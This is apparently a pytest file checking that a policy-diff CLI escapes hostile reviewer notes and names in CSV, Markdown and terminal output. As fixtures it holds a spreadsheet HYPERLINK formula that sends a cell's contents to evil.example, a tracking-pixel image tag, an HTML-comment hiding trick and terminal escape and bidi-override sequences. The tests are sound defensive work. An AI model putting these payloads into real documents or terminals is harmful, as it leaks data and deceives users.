"""Notes and reviewer names are someone else's text (issue 21, findings 14, 15, 16): in the sign-off CSV
they never start a formula, in the Markdown PR comment they never become markup, and on a terminal
they never act (ESC sequences, NUL, U+202E), in `diff`, `review` and `pair` alike."""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest
from click.testing import CliRunner

from policydiff.cli import cli

PAIR = ("fy2024", "fy2024-synthetic")
FORMULA_NOTE = '=HYPERLINK("https://evil.example/?"&A1,"ok")'
FORMULA_BY = "@SUM(1+1)"
PIXEL_NOTE = 'seen <img src="https://evil.example/pixel.png"> [x](https://evil.example)'
HIDING_NOTE = "ok\r<!-- everything after this is hidden"
TERMINAL_NOTE = "\x1b]0;pwned\x07\x1b[2J\x00\u202eevil"
LIVE = ("\x1b", "\x00", "\u202e", "\x07")


def run(archive, *args, env=None):
    return CliRunner().invoke(cli, ["--archive", str(archive), *args], env=env)


@pytest.fixture(scope="module")
def marked(seeded_template, synthetic, tmp_path_factory):
    """A pair with hostile notes and names on a measure, a budget line, and a mark whose change vanished."""
    archive = tmp_path_factory.mktemp("escaping") / "archive"
    shutil.copytree(seeded_template, archive, symlinks=True)
    assert run(archive, "ingest", str(synthetic)).exit_code == 0
    rows = json.loads(run(archive, "review", *PAIR, "--format", "json").stdout)["changes"]
    measure = next(r["id"] for r in rows if r["kind"] == "measure")
    budget = next(r["id"] for r in rows if r["kind"] == "budget")
    for ident, note, by in ((measure, PIXEL_NOTE + " " + TERMINAL_NOTE, "\u202eMallory"),
                            (budget, HIDING_NOTE, FORMULA_BY)):
        done = run(archive, "review", *PAIR, "--mark", ident, "query", "--note", note, "--by", by)
        assert done.exit_code == 0, done.output
    # A mark whose change vanished: its record, forged with plain data, as a re-ingest leaves one.
    path = archive / "reviews" / "iryokiki-kihonkeikaku" / "fy2024..fy2024-synthetic.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    data["marks"].append({"id": "m-0000000000", "mark": "rejected", "note": FORMULA_NOTE, "by": "-Eve",
                          "at": "2026-01-01T00:00:00Z", "kind": "measure", "measure": "m999",
                          "summary": "+gone " + TERMINAL_NOTE})
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    import subprocess

    subprocess.run(["git", "-C", str(archive), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "x"],
                   check=True)
    assert run(archive, "verify").exit_code == 0
    return archive


def test_the_sign_off_csv_guards_formulas_and_lists_stale_marks(marked):
    out = run(marked, "review", *PAIR, "--format", "csv")
    assert out.exit_code == 0, out.output
    rows = list(csv.reader(io.StringIO(out.stdout.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], \
        [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + FORMULA_BY in cells
    stale = [dict(zip(rows[0], row, strict=True)) for row in rows[1:] if row[0] == "m-0000000000"]
    assert len(stale) == 1 and stale[0]["note"] == "'" + FORMULA_NOTE and stale[0]["by"] == "'-Eve"
    assert stale[0]["stale"] == "yes"


def test_the_markdown_comment_shows_notes_and_names_as_text(marked):
    out = run(marked, "diff", *PAIR, "--format", "markdown")
    assert out.exit_code == 1, out.output
    md = out.stdout
    assert "<img" not in md and "<!--" not in md and "](https" not in md
    assert "\r" not in md
    assert "&#60;img src=&#34;" in md or "&#60;img" in md  # shown, as written


@pytest.mark.parametrize("args", [["diff", *PAIR], ["review", *PAIR], ["pair", *PAIR],
                                  ["review", *PAIR, "--format", "json"]], ids=lambda a: " ".join(a[:1] + a[3:]))
def test_no_note_or_name_acts_on_a_terminal(marked, args):
    if args[0] == "pair":
        done = run(marked, "pair", *PAIR, "--unlink", "m004", "--by", "\u202eMallory\x1b[2J")
        assert done.exit_code == 2 and "control character" in done.stderr, done.output
        assert run(marked, "pair", *PAIR, "--unlink", "m004", "--by", "\u202eMallory").exit_code == 0
    out = run(marked, *args)
    assert out.exit_code in (0, 1), out.output
    for ch in LIVE:
        assert ch not in out.stdout, (repr(ch), args)
    assert ("\\u202e" if "json" in args else "⟨U+202E⟩") in out.stdout
